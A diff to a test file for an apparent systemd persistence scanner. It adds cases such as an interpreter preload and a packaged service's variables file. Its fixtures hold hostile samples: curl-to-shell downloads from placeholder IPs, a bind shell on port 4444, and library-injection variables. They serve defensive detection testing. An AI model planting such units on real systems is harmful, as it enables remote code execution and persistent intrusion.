@@ -18,7 +18,9 @@ tellsOf(systemd, {
     'one that fetches and runs when it stops': { files: { [`${etc}/d.service`]: service('ExecStart=/usr/bin/true', 'ExecStopPost=/bin/sh -c "curl -s http://203.0.113.9/d | bash"') }, finds: [`intrusion high ${etc}/d.service`] },
     'a command put together from variables': { files: { [`${etc}/e.service`]: service('Environment="P=/dev/shm" "Q=run"', 'ExecStart=/bin/sh -c \'${P}/${Q}\'') }, finds: [`intrusion high ${etc}/e.service`] },
     'a drop-in that loads a library': { files: { [`${etc}/ssh.service.d/10-env.conf`]: '[Service]\nEnvironment=LD_PRELOAD=/tmp/libk.so\n' }, finds: [`intrusion high ${etc}/ssh.service.d/10-env.conf`] },
-    'a file of variables that does': { files: { [`${etc}/f.service`]: service('EnvironmentFile=-/etc/default/f', 'ExecStart=/usr/bin/true'), '/etc/default/f': 'LD_AUDIT=/usr/lib/libsnoop.so\n', '/usr/lib/libsnoop.so': 'ELF' }, finds: [`intrusion medium ${etc}/f.service`] },
+    'a file of variables that does': { files: { [`${etc}/f.service`]: service('EnvironmentFile=-/etc/default/f', 'ExecStart=/usr/bin/true'), '/etc/default/f': 'LD_AUDIT=/usr/lib/libsnoop.so\n', '/usr/lib/libsnoop.so': 'ELF' }, finds: [`intrusion medium ${etc}/f.service`, 'intrusion medium /etc/default/f'] },
+    'variables of a service that a package ships': { files: { '/etc/default/tomcat9': 'TOMCAT_USER=tomcat\nJAVA_TOOL_OPTIONS="-Xmx1g -agentpath:/dev/shm/.j.so"\n' }, finds: ['intrusion high /etc/default/tomcat9'] },
+    'an interpreter told to load a file first': { files: { [`${etc}/node.service`]: service('Environment=NODE_OPTIONS="--require /usr/lib/nodejs/.h.js"', 'ExecStart=/usr/bin/true'), '/usr/lib/nodejs/.h.js': 'require("child_process").exec("curl -s http://203.0.113.6/n|sh")\n' }, finds: [`intrusion high ${etc}/node.service`] },
     'a shell for whoever connects': { files: { [`${etc}/g@.service`]: service('ExecStart=-/bin/bash -i', 'StandardInput=socket'), [`${etc}/g.socket`]: '[Socket]\nListenStream=4444\nAccept=yes\n' }, finds: [`intrusion critical ${etc}/g@.service`] },
     'a program on its standard input': { files: { [`${etc}/h.service`]: service('ExecStart=/bin/sh', `StandardInputData=${Buffer.from('/var/tmp/h &\n').toString('base64')}`) }, finds: [`intrusion high ${etc}/h.service`] },
     'a unit of a user': { files: { '/home/lin/.config/systemd/user/i.service': service('ExecStart=/dev/shm/i') }, finds: ['intrusion high /home/lin/.config/systemd/user/i.service'] },
@@ -60,7 +62,7 @@ describe('unit files', () => {
   });
 
   it('splits words as systemd does', () => {
-    expect(splitWords(String.raw`/bin/a "b c" 'd "e"' f\x20g \u4e2d h"i"`)).toEqual(['/bin/a', 'b c', 'd "e"', 'f g', '中', 'h"i"']);
+    expect(splitWords(String.raw`/bin/a "b c" 'd "e"' f\x20g \u4e2d h"i"`)).toEqual(['/bin/a', 'b c', 'd "e"', 'f g', '中', 'hi']);
     expect(readExec('-@/bin/a name x ; +/bin/b $$ ${Y} %i %%', new Map([['Y', 'why']]), 'u@inst.service')).toEqual([{ words: ['/bin/a', 'x'], title: 'name', privileged: false }, { words: ['/bin/b', '$', 'why', 'inst', '%'], title: undefined, privileged: true }]);
   });
 
